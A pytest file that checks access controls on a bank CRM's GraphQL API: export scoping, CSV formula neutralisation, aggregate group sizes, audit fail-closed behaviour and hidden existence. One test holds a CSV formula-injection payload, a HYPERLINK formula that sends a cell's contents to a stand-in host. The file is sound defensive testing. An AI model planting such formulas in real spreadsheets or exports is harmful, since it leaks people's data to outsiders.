"""Access on every path (issue 17, findings 1-6): exports, aggregates, filters, self-service
views, channel binding and existence oracles, over real HTTP against the real engine."""

import csv
import io
import json
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import jwt
import pytest

from api.exports import neutralised
from api.security.identity import Role
from graph.engines.settings import GraphSettings
from graph.insights import replace_needs
from graph.opportunities import write_opportunities
from recommenders.facts import fact
from recommenders.needs import Need
from recommenders.offers import offers_for
from tests.api.served import (
    ADMIN,
    BRANCH,
    MARKETING,
    TEST_SECURITY,
    bearer,
    post,
    secured,
    serve,
    write_elsewhere,
)

MANAGER = bearer(Role.RELATIONSHIP_MANAGER, "RELATIONSHIP_MANAGER", portfolio="PF-001")
CARE = bearer(Role.CARE_AGENT, "BACK_OFFICE")
CREATE = """mutation ($f: CustomerFilterInput!) { createSegment(name: "all", filter: $f) {
    ... on SegmentSaved { segment { exportUrl } } } }"""
UPSERT = """mutation ($c: CustomerInput!) { upsertCustomer(customer: $c) {
    __typename ... on NotFound { field message } } }"""
PREVIEW = """query ($f: CustomerFilterInput) { segmentPreview(filter: $f) {
    count ageBands { label customers } sample { id }
    productPenetration { productId holders averageBalance { minorUnits } } } }"""


@pytest.fixture(scope="module")
def strict(
    api_graph: GraphSettings, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, Path]]:
    """The app with the default minimum group size (10) and an audit file of its own."""
    trail = tmp_path_factory.mktemp("audit") / "audit.jsonl"
    with serve(api_graph, security=secured({"audit_path": trail, "min_group_size": 10})) as base:
        yield base, trail


def minted(role: str, channel: str, **claims: str) -> dict[str, str]:
    """A validly signed token for any role and channel (`kith token` refuses unbound ones)."""
    assert TEST_SECURITY.jwt_secret is not None
    body = {"sub": "probe", "role": role, "channel": channel, "iss": "kith", "aud": "kith",
            "exp": int(time.time()) + 600, **claims}  # fmt: skip
    token = jwt.encode(body, TEST_SECURITY.jwt_secret.get_secret_value(), algorithm="HS256")
    return {"Authorization": f"Bearer {token}"}


def events(trail: Path) -> list[dict[str, Any]]:
    """The audit trail's events, oldest first."""
    return [json.loads(line)["event"] for line in trail.read_text().splitlines()]


def person(customer_id: str, name: str, city: str, consent: bool = True) -> dict[str, object]:
    """A profile for upsertCustomer."""
    return {"id": customer_id, "fullName": name, "birthDate": "1980-01-01", "gender": "F",
            "city": city, "currency": "GBP", "phone": "+44 7700 900999",
            "marketingConsent": consent, "profilingConsent": False}  # fmt: skip


def export(api: str, headers: dict[str, str], given: dict[str, object]) -> httpx.Response:
    """Save a segment as this caller and download its CSV."""
    saved = post(api, CREATE, headers, f=given).json()["data"]["createSegment"]
    return httpx.get(api + saved["segment"]["exportUrl"], headers=headers, timeout=30)


def test_finding_1_a_managers_export_holds_only_their_book(api: str) -> None:
    # Consented customers: Maya (PF-001), Grace and Tom (no portfolio).
    rows = list(csv.DictReader(io.StringIO(export(api, MANAGER, {}).text)))
    assert [row["id"] for row in rows] == ["C-0000001"]
    everyone = list(csv.DictReader(io.StringIO(export(api, ADMIN, {}).text)))
    assert [row["id"] for row in everyone] == ["C-0000001", "C-0000005", "C-0000006"]
    missing = httpx.get(api + "/segments/S-404/members.csv", headers=MANAGER, timeout=30)
    assert (missing.status_code, missing.json()["code"]) == (404, "NOT_FOUND")
    refused = httpx.get(api + "/segments/S-404/members.csv", headers=BRANCH, timeout=30)
    assert (refused.status_code, refused.json()["code"]) == (403, "FORBIDDEN")
    anonymous = httpx.get(api + "/segments/S-404/members.csv", timeout=30)
    assert (anonymous.status_code, anonymous.json()["code"]) == (401, "UNAUTHENTICATED")


def test_finding_2_exported_cells_never_run_as_formulas(api: str) -> None:
    names = ['=HYPERLINK("http://x.invalid/?d="&B2,"click")', "+SUM(1+1)", "-2+3", "@SUM(A1)",
             "Plain Name"]  # fmt: skip
    for number, name in enumerate(names):
        saved = post(api, UPSERT, ADMIN, c=person(f"C-F{number}", name, "Formulaville")).json()
        assert saved["data"]["upsertCustomer"]["__typename"] == "CustomerSaved", saved
    rows = list(csv.reader(io.StringIO(export(api, ADMIN, {"city": "Formulaville"}).text)))
    cells = {row[0]: row for row in rows[1:]}
    assert [cells[f"C-F{n}"][1] for n in range(5)] == [*(f"'{n}" for n in names[:4]), "Plain Name"]
    assert cells["C-F0"][3] == "'+44 7700 900999"  # a leading plus is a formula too
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for row in rows for cell in row)
    # A profile's names are trimmed when saved; a tab or return from elsewhere is kept off too.
    assert [neutralised(c) for c in ("\tx", "\rx", "x=1")] == ["'\tx", "'\rx", "x=1"]


def test_finding_3_filters_and_aggregates_need_the_fields_they_read(
    api: str, strict: tuple[str, Path]
) -> None:
    tiers = '{ customers(filter: {valueTier: "PRIVATE"}, first: 5) { totalCount } }'
    refused = post(api, tiers, CARE).json()
    assert refused["data"] is None
    assert refused["errors"][0]["extensions"]["code"] == "FORBIDDEN"
    assert "filter.valueTier" in refused["errors"][0]["message"]
    assert "errors" not in post(api, tiers, BRANCH).json()  # the branch sees value tiers
    holds = {"holdsProducts": ["P-CURRENT"]}
    rows = post(api, "query ($f: CustomerFilterInput) { customers(filter: $f) { totalCount } }",
                MARKETING, f=holds).json()  # fmt: skip
    assert rows["errors"][0]["extensions"]["code"] == "FORBIDDEN"  # marketing: counts only
    counted = post(api, PREVIEW, MARKETING, f=holds).json()["data"]["segmentPreview"]
    assert counted["count"] >= 1
    assert counted["sample"] == []  # no holder named
    # A manager's aggregates cover their book: Maya and her household, not the bank.
    assert post(api, PREVIEW, MANAGER, f={}).json()["data"]["segmentPreview"]["count"] == 4
    # With the default minimum group size, no aggregate describes one person.
    base, trail = strict
    one = {"city": "Leeds", "minAge": 47, "maxAge": 47}
    alone = post(base, PREVIEW, MARKETING, f=one).json()
    assert alone["data"] is None
    assert alone["errors"][0]["extensions"]["code"] == "GROUP_TOO_SMALL"
    selected = [e for e in events(trail) if e["outcome"] == "SELECTED"]
    assert selected[-1]["operation"] == "segmentPreview"
    assert json.loads(selected[-1]["filter"])["filter"] == {"city": "Leeds", "max_age": 47,
                                                           "min_age": 47}  # fmt: skip


def test_finding_3_aggregates_fail_closed_without_an_audit(
    api_graph: GraphSettings, tmp_path: Path
) -> None:
    blocked = tmp_path / "not-a-dir"
    blocked.write_text("")  # a file where the audit's folder should be
    with serve(api_graph, security=secured({"audit_path": blocked / "audit.jsonl"})) as base:
        answer = post(base, "{ segmentPreview { count } }", MARKETING).json()
    assert answer["data"] is None
    assert answer["errors"][0]["extensions"]["code"] == "AUDIT_UNAVAILABLE"


SELF = """query ($id: ID!, $channel: ViewChannel!) { view(customerId: $id, channel: $channel) {
    __typename ... on SelfServiceView { firstName } } }"""


def test_finding_5_self_service_serves_the_customer_themself(strict: tuple[str, Path]) -> None:
    base, trail = strict
    for role, channel in (("RELATIONSHIP_MANAGER", "KIOSK"),
                          ("CONTACT_CENTER_AGENT", "MOBILE_APP"),
                          ("BRANCH_OFFICER", "CONTACT_CENTER")):  # fmt: skip
        staff = minted(role, channel, portfolio="PF-001", customer="C-0000001")
        refused = post(base, SELF, staff, id="C-0000005", channel=channel)
        assert refused.status_code == 401, (role, channel)
        assert "may not use the channel" in refused.json()["detail"]
    tom = bearer(Role.CUSTOMER, "KIOSK", customer="C-0000006")
    own = post(base, SELF, tom, id="C-0000006", channel="KIOSK").json()
    assert own == {"data": {"view": {"__typename": "SelfServiceView", "firstName": "Tom Reilly"}}}
    other = post(base, SELF, tom, id="C-0000005", channel="KIOSK").json()
    assert other == post(base, SELF, tom, id="C-9999999", channel="KIOSK").json()
    assert other == {"data": {"view": None}}
    served = [e for e in events(trail) if e["channel"] == "KIOSK" and e["outcome"] == "RETURNED"]
    assert {e["customer_id"] for e in served} == {"C-0000006"}
    anyone = post(base, '{ customer(id: "C-0000006") { fullName } }', tom).json()
    assert anyone["errors"][0]["extensions"]["code"] == "FORBIDDEN"
    unnamed = post(base, SELF, minted("CUSTOMER", "WEB"), id="C-0000006", channel="WEB")
    assert unnamed.status_code == 401


def test_finding_5_self_service_fails_closed_without_an_audit(
    api_graph: GraphSettings, tmp_path: Path
) -> None:
    blocked = tmp_path / "not-a-dir"
    blocked.write_text("")
    tom = bearer(Role.CUSTOMER, "MOBILE_APP", customer="C-0000006")
    with serve(api_graph, security=secured({"audit_path": blocked / "audit.jsonl"})) as base:
        answer = post(base, SELF, tom, id="C-0000006", channel="MOBILE_APP").json()
    assert answer["data"] is None
    assert answer["errors"][0]["extensions"]["code"] == "AUDIT_UNAVAILABLE"


def test_finding_6_out_of_reach_looks_exactly_like_missing(strict: tuple[str, Path]) -> None:
    base, trail = strict
    full = """query ($id: ID!) { view(customerId: $id, channel: RELATIONSHIP_MANAGER) {
        ... on FullView { customer { id } } } }"""
    outside = post(base, full, MANAGER, id="C-0000005").json()
    assert outside == post(base, full, MANAGER, id="C-9999999").json() == {"data": {"view": None}}
    assert post(base, full, MANAGER, id="C-0000001").json()["data"]["view"] == {
        "customer": {"id": "C-0000001"}
    }

    def upsert(headers: dict[str, str], customer_id: str) -> dict[str, str]:
        answer = post(base, UPSERT, headers, c=person(customer_id, "New Person", "Leeds")).json()
        saved: dict[str, str] = answer["data"]["upsertCustomer"]
        return {**saved, "message": saved.get("message", "").replace(customer_id, "X")}

    assert upsert(MANAGER, "C-0000005") == upsert(MANAGER, "C-NEW-0001")
    assert upsert(MANAGER, "C-NEW-0001")["__typename"] == "NotFound"
    read = '{ customer(id: "C-NEW-0001") { id } }'
    assert post(base, read, ADMIN).json()["data"]["customer"] is None  # nothing written
    assert upsert(BRANCH, "C-NEW-0002")["__typename"] == "CustomerSaved"  # onboarding may
    created = [e for e in events(trail) if e["outcome"] == "CREATED"]
    assert [(e["customer_id"], e["role"]) for e in created] == [("C-NEW-0002", "BRANCH_OFFICER")]


FREE_TEXT = """query ($channel: ViewChannel!) {
  customer(id: "C-0000001") { needs { evidence } opportunities { script } }
  view(customerId: "C-0000001", channel: $channel) { ... on ViewFrame { nextBestAction {
    script } } } }"""
SELF_TEXT = """query ($channel: ViewChannel!) { view(customerId: "C-0000001", channel: $channel) {
    ... on ViewFrame { nextBestAction { script } } } }"""


def test_finding_4_free_text_says_only_what_the_audience_may_see(
    api: str, api_graph: GraphSettings
) -> None:
    # Maya, 47 and earning 5,200 a month, as `kith score` would store her home-buying need.
    home = Need("HOME_PURCHASE", 0.6, (fact("47, no mortgage", "IDENTITY", "HOLDINGS"),
                                       fact("income 5,200 a month", "FINANCES")))  # fmt: skip
    [offer] = offers_for([home], [], [], {"MORTGAGE": [("P-MORTGAGE", "Home Mortgage")]}, "Maya")
    need = {"id": "N-HOME", "kind": home.kind, "score": home.score,
            "evidence": list(home.evidence), "subjectId": None}  # fmt: skip
    write_elsewhere(api_graph, replace_needs, [{"customerId": "C-0000001", "needs": [need]}])
    row = {"id": "O-HOME", "customerId": "C-0000001", "productId": "P-MORTGAGE", "score": 0.6,
           "needKind": home.kind, "script": list(offer.script),
           "scoredAt": 1_790_000_000_000}  # fmt: skip
    write_elsewhere(api_graph, write_opportunities, [row])

    agent = bearer(Role.CONTACT_CENTER_AGENT, "CONTACT_CENTER", customer="C-0000001")
    heard = post(api, FREE_TEXT, agent, channel="CONTACT_CENTER").json()
    assert "errors" not in heard, heard
    said = json.dumps(heard["data"])
    assert "income" not in said  # no finances on the phone
    assert "5,200" not in said
    assert heard["data"]["customer"]["needs"] == [{"evidence": ["47, no mortgage"]}]
    assert "47, no mortgage: our Home Mortgage" in said  # what it may see, it hears
    officer = json.dumps(post(api, FREE_TEXT, BRANCH, channel="BRANCH_TABLET").json()["data"])
    assert "47, no mortgage; income 5,200 a month: our Home Mortgage" in officer
    for channel in ("KIOSK", "MOBILE_APP"):  # the customer's own screens: their own terms
        maya = bearer(Role.CUSTOMER, channel, customer="C-0000001")
        screen = post(api, SELF_TEXT, maya, channel=channel).json()
        script = screen["data"]["view"]["nextBestAction"]["script"]
        assert not any("income" in step or "47" in step for step in script), script
        assert "Home Mortgage" in script[-1]


def test_finding_3_journey_aggregates_keep_the_minimum_group_and_are_audited(
    api: str, strict: tuple[str, Path]
) -> None:
    query = """{ journeys(since: "2026-01-01T00:00:00Z", until: "2026-11-01T00:00:00Z",
        minContacts: 1) { journey touchpoint contacts nps } }"""
    # With groups of one allowed, the complaint call's single NPS answer is a person's.
    loose = post(api, query, MARKETING).json()["data"]["journeys"]
    assert any(p["contacts"] < 10 for p in loose)
    base, trail = strict
    kept = post(base, query, MARKETING).json()["data"]["journeys"]
    assert all(p["contacts"] >= 10 for p in kept)  # the example bank has no such group
    asked = [e for e in events(trail) if e["operation"] == "journeys"]
    assert json.loads(asked[-1]["filter"])["minContacts"] == 1


def test_finding_3_search_finds_no_one_by_contact_details_marketing_may_not_see(
    api: str,
) -> None:
    query = "query ($t: String!) { search(text: $t) { customer { id email } } }"
    # David objected to marketing: his email must not tell marketing whose it is.
    assert post(api, query, MARKETING, t="david.okafor").json()["data"]["search"] == []
    found = post(api, query, MARKETING, t="maya.okafor").json()["data"]["search"]
    assert [r["customer"]["id"] for r in found] == ["C-0000001"]
    staff = post(api, query, BRANCH, t="david.okafor").json()["data"]["search"]
    assert [r["customer"]["id"] for r in staff] == ["C-0000002"]
